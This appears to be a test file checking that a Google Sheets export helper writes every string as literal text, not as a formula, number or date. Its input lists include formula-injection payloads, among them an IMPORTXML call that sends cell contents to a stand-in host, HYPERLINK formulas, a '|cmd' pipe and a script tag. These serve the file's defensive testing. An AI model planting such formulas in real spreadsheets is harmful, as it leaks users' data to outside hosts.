// Every text goes in as that text, whatever it looks like; numbers and days go in as numbers.
import fc from 'fast-check';
import { dayCell, numberCell, textCell } from './cells';

/** What Sheets would take for a formula, a number, a date or a truth value, and what it cannot hold at all. */
const LOOK_LIKE_FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://x.test";"click")',
  '=IMPORTXML("http://x.test/?"&A1;"//a")',
  '==',
  '=',
  '+1',
  '+SUM(A1)',
  '-1',
  '-',
  '--1',
  '@SUM(A1)',
  '@',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  '|cmd',
  '%0A=1',
  '{1;2}',
  "'=1+1",
  "''",
  "'",
];
const LOOK_LIKE_NUMBERS = [
  '007',
  '0',
  '-0',
  '1E5',
  '1e-7',
  '.5',
  '5.',
  '1,234.5',
  '1.234,5',
  '50%',
  'R$ 3',
  '$3.20',
  '€5',
  '(12)',
  '1 000',
  '142198801208852411',
  '9999999999999999999999999',
  'Infinity',
  'NaN',
  '0x1F',
  '１２３',
  '٣',
];
const LOOK_LIKE_DATES = [
  '1/2',
  '1-2',
  '2026-11-22',
  '22/11/2026',
  'Nov 22',
  '12:30',
  '1:2:3',
  '2026-11-22T10:00:00Z',
  'TRUE',
  'false',
  'VERDADEIRO',
  '#N/A',
  '#REF!',
];
const OTHER = [
  'promo_black_friday',
  'Olá {{1}}, tudo bem?',
  '👩‍👩‍👧‍👦 família 🇧🇷',
  'שלום עולם',
  '\u202Eabc',
  '<script>alert(1)</script>',
  'a\u0000b'.replace('\u0000', ''),
  'line\nbreak',
  'tab\tinside',
  'null',
  'undefined',
  '__proto__',
  '\u0007bell',
  'x'.repeat(49_998),
];
const TEXTS = [...LOOK_LIKE_FORMULAS, ...LOOK_LIKE_NUMBERS, ...LOOK_LIKE_DATES, ...OTHER];

test('the list is long enough to mean something', () => {
  expect(new Set(TEXTS).size).toBeGreaterThanOrEqual(80);
});

test.each(TEXTS.map((text) => [text.length > 60 ? `${text.slice(0, 20)}…` : text, text]))(
  '%p goes in as that text',
  (_shown, text) => {
    expect(textCell(text)).toBe(`'${text}`);
  },
);

test.each([
  ['NUL at the start', '\u0000=1+1', "'=1+1"],
  ['NUL inside', 'a\u0000\u0000b', "'ab"],
  ['half a pair at the end', 'a\ud83d', "'a\ufffd"],
  ['half a pair at the start', '\ude00a', "'\ufffda"],
  ['the halves in the wrong order', '\ude00\ud83d', "'\ufffd\ufffd"],
  ['two second halves', '\ude00\ude00', "'\ufffd\ufffd"],
  ['three second halves', 'a\ude00\ude00\ude00b', "'a\ufffd\ufffd\ufffdb"],
  ['a pair and a second half', '😀\ude00', "'😀\ufffd"],
  ['a first half and a pair', '\ud83d😀', "'\ufffd😀"],
  ['a pair alone', '😀', "'😀"],
])('%s is cleaned, since a cell cannot hold it', (_name, text, cell) => {
  expect(textCell(text)).toBe(cell);
});

test('nothing is an empty cell', () => {
  expect(textCell(null)).toBe('');
  expect(textCell('')).toBe('');
});

test.each([
  ['50,000 characters', 'x'.repeat(50_000), `'${'x'.repeat(49_998)}…`],
  ['60,000 characters', 'x'.repeat(60_000), `'${'x'.repeat(49_998)}…`],
  [
    '49,999 characters, which fit with the apostrophe',
    'x'.repeat(49_999),
    `'${'x'.repeat(49_999)}`,
  ],
  ['a pair at the cut', `${'x'.repeat(49_997)}😀${'x'.repeat(9)}`, `'${'x'.repeat(49_997)}…`],
])('%s are cut with a mark only where they must be', (_name, text, cell) => {
  const written = String(textCell(text));
  expect([written.length, written.slice(-3)]).toEqual([cell.length, cell.slice(-3)]);
  expect(written === cell).toBe(true);
});

test('any text is a text cell that Sheets can hold, and nothing of it is lost but what it cannot', () => {
  const anyText = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(fc.integer({ min: 0, max: 0xffff })).map((codes) => String.fromCharCode(...codes)),
    fc
      .array(fc.constantFrom('\ud83d', '\ude00', 'a', '\u0000', '😀'))
      .map((parts) => parts.join('')),
  );
  fc.assert(
    fc.property(anyText, (text) => {
      const kept = text.replaceAll('\u0000', '').toWellFormed();
      expect(textCell(text)).toBe(text === '' ? '' : `'${kept}`);
    }),
    { numRuns: 500, seed: 20260101 },
  );
});

test('a number goes in as it is, and not reported stays empty', () => {
  expect([0, 1, 0.0725, -3, 1e21].map(numberCell)).toEqual([0, 1, 0.0725, -3, 1e21]);
  expect(numberCell(null)).toBe('');
});

test.each([Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY])(
  '%p never goes in',
  (value) => {
    expect(() => numberCell(value)).toThrow(RangeError);
  },
);

test.each([
  ['1899-12-31', 1],
  ['1970-01-01', 25_569],
  ['2000-01-01', 36_526],
  ['2024-02-29', 45_351],
  ['2026-11-22', 46_348],
])('the day %s goes in as the serial %p', (day, serial) => {
  expect(dayCell(day)).toBe(serial);
});
